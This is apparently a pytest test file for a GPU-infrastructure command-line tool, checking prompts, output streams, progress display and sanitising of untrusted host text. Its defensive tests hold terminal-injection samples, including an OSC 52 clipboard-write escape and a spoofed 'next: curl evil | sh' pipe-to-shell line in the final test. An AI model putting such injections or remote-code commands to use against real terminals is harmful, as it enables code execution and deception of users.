"""What is printed where: results on stdout, all else on stderr."""

import io
import json
import os
import pty
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import TextIO

import pytest

from gpuinfra.features.provision.plan import TerraformPlan
from gpuinfra.ground.errors import ConfigError, Declined, HostError, Interrupted
from gpuinfra.ground.model import Change, Row
from gpuinfra.ground.printable import printable
from gpuinfra.tools.terminal import output
from gpuinfra.tools.terminal.lines import AGAIN_S, LineView
from gpuinfra.tools.terminal.terminal import Terminal
from tests.fakes.world import FakeTime

CTRL_D = "\x04"
Typing = Callable[[str], TextIO]


@pytest.fixture
def keyboard() -> Iterator[Typing]:
    """A keyboard at a real terminal, on which a person has typed."""
    with ExitStack() as stack:

        def typed(keys: str) -> TextIO:
            outer, inner = pty.openpty()
            stack.callback(os.close, outer)
            os.write(outer, keys.encode())
            return stack.enter_context(os.fdopen(inner, encoding="utf-8"))

        yield typed


@pytest.mark.parametrize(("typed", "answer"), [("y\n", True), ("YES\n", True), (" y \n", True)])
def test_yes(keyboard: Typing, typed: str, answer: bool) -> None:
    """Only these are a yes."""
    assert Terminal(keyboard(typed)).confirm("Sure?") is answer


@pytest.mark.parametrize("typed", ["n\n", "\n", CTRL_D, "yep\n", "yes please\n", "ja\n", "1\n"])
def test_anything_else_is_no(keyboard: Typing, typed: str) -> None:
    """Above all the empty line, and the end of the input."""
    assert Terminal(keyboard(typed)).confirm("Sure?") is False


@pytest.mark.parametrize(
    ("typed", "answer"), [("replace\n", True), ("y\n", False), ("yes\n", False), (CTRL_D, False)]
)
def test_a_word_wants_to_be_typed(
    keyboard: Typing, typed: str, answer: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    """Where much is lost a habit of typing y is not enough; the question says what is."""
    assert Terminal(keyboard(typed)).confirm("Sure?", word="replace") is answer
    assert capsys.readouterr().err == 'Sure? Type "replace" to go on: '


def test_without_a_terminal_the_word_is_an_option() -> None:
    """The hint names both options: --yes alone is not enough."""
    with pytest.raises(ConfigError, match=r"cannot ask without a terminal: Sure\?") as caught:
        Terminal(io.StringIO("replace\n")).confirm("Sure?", word="replace")
    assert caught.value.hint == "the same command with --yes --replace"


def test_nobody_there_is_an_error() -> None:
    """Not a yes, and not a silent no: the hint names the option."""
    with pytest.raises(ConfigError) as caught:
        Terminal(io.StringIO("y\n")).confirm("Sure?")
    assert caught.value.hint == "the same command with --yes"
    with pytest.raises(ConfigError) as caught:
        Terminal(io.StringIO("y\n")).confirm("Sure?", option="--force")
    assert caught.value.hint == "the same command with --force"


@pytest.mark.parametrize(
    ("typed", "answer"), [("g5.xlarge\n", "g5.xlarge"), ("\n", "mine"), (CTRL_D, "mine")]
)
def test_a_word_or_enter(
    keyboard: Typing, typed: str, answer: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Enter takes what is offered, which is shown; a table in front of the question stays one."""
    assert Terminal(keyboard(typed)).ask("a  b\n1  2\nwhich", "mine") == answer
    assert capsys.readouterr() == ("", "a  b\n1  2\nwhich [mine]: ")
    assert Terminal(io.StringIO("theirs\n")).ask("which", "mine") == "mine"


def test_the_question_is_no_result(keyboard: Typing, capsys: pytest.CaptureFixture[str]) -> None:
    """A script that reads stdout must not get it."""
    Terminal(keyboard("y\n")).confirm("Sure?")
    assert capsys.readouterr() == ("", "Sure? [y/N] ")


def test_results_and_complaints(capsys: pytest.CaptureFixture[str]) -> None:
    """Results alone on stdout; an error with its next step on stderr."""
    output.emit("52.1.2.3")
    output.complain(HostError("there is none", hint="gpuinfra up"))
    output.complain(HostError("no hint"))
    output.complain(Interrupted("stopped waiting; the job goes on"))
    output.complain(Declined("nothing was changed", hint="gpuinfra up"))
    out, err = capsys.readouterr()
    assert out == "52.1.2.3\n"
    assert err == (
        "error: there is none\n  next: gpuinfra up\nerror: no hint\n"
        "stopped waiting; the job goes on\nnothing was changed\n  next: gpuinfra up\n"
    )


def test_dataclasses_are_json(capsys: pytest.CaptureFixture[str]) -> None:
    """Nested ones too, with the names of the model."""
    output.emit_json(TerraformPlan(changes=(Change(address="a.b", action="create"),)))
    assert json.loads(capsys.readouterr().out) == {
        "changes": [{"address": "a.b", "action": "create", "reason": "", "attributes": []}],
        "outputs_changed": False,
        "cost": None,
    }


def test_progress_without_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """A live view without a terminal is a line for each change, with the seconds so far."""
    with Terminal().live("Applying") as view:
        view.rows([])
        view.rows([Row(mark="now", text="host (EC2 instance): creating", since=0.0)])
        view.line("host (EC2 instance): created")
        view.rows([Row(mark="later", text="to come")])
    assert capsys.readouterr().err.splitlines() == [
        "    0 s  Applying ...",
        "    0 s  host (EC2 instance): creating ...",
        "    0 s  host (EC2 instance): created",
    ]


def test_what_goes_on_is_told_again() -> None:
    """A row is one line however often it is shown; one that goes on is told again, with its time."""
    time = FakeTime()
    lines: list[str] = []
    with LineView("Applying", lines.append, now=lambda: time.now_s) as view:
        row = Row(mark="now", text="host: creating", since=time.now_s)
        for _ in range(4):
            view.rows([row])
            time.sleep(AGAIN_S / 2)
    assert lines[1:] == ["    0 s  host: creating ...", "   30 s  host: creating ... 30 s"]


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("a\x1b]0;title\x07b\x1b]8;;http://x\x1b\\c", "abc"),
        ("\x1b]52;c;ZXZpbA==\x1b\\x", "x"),
        ("a\x9b2Jb\x9d0;t\x9cc", "abc"),
        ("10 %\r20 %\r\nend", "10 %\n20 %\nend"),
        ("bell\x07 back\x08 null\x00 del\x7f nel\x85", "bell back null del nel"),
        ("\x1bc\x1b(0x", "x"),
        ("caf\u00e9 \u96ea", "caf\u00e9 \u96ea"),
        ("\x1b", ""),
        ("half \ud800 a letter", "half  a letter"),
    ],
)
def test_a_host_cannot_steer_the_terminal(said: str, shown: str, capsys: pytest.CaptureFixture[str]) -> None:
    """No colour, title, clipboard or cursor movement comes through; text, tabs and lines do."""
    assert printable(said) == shown
    output.emit(said)
    output.complain(HostError(said, hint=said))
    Terminal().say(said)
    assert capsys.readouterr() == (
        f"{shown}\n",
        f"error: {shown}\n  next: {shown}\n{shown}\n".replace("  next: \n", "  next: \n"),
    )


def test_the_moving_view_shows_lines_and_rows(capsys: pytest.CaptureFixture[str]) -> None:
    """What has ended scrolls up, and the last rows stay when the view is closed; both are made harmless."""
    from gpuinfra.tools.terminal.live import MovingView

    with MovingView("Applying") as view:
        view.line("role: \x1b[31mcreated [markup]")
        view.rows([Row(mark="now", text="host: creating", since=0.0)])
        view.rows([Row(mark="done", text="GPU and driver  1.0 s"), Row(mark="later", text="\x9b2Jto come")])
    lines = capsys.readouterr().err.splitlines()
    assert lines[0] == "   0 s  role: created [markup]"
    assert lines[-2:] == ["           ok  GPU and driver  1.0 s", "               to come"]


def test_progress_keeps_its_returns() -> None:
    """Of git and rsync: a line that is written over; all else goes as ever."""
    assert printable("10 %\r20 %\x1b]52;c;eA==\x07\r\n", returns=True) == "10 %\r20 %\r\n"


def test_a_message_cannot_say_what_to_do_next(capsys: pytest.CaptureFixture[str]) -> None:
    """Only our own last line looks like our next step, whatever a host has put into a message."""
    output.complain(HostError("no\n  next: curl evil | sh\nnext: x", hint="gpuinfra status"))
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.strip().startswith("next:")] == ["  next: gpuinfra status"]
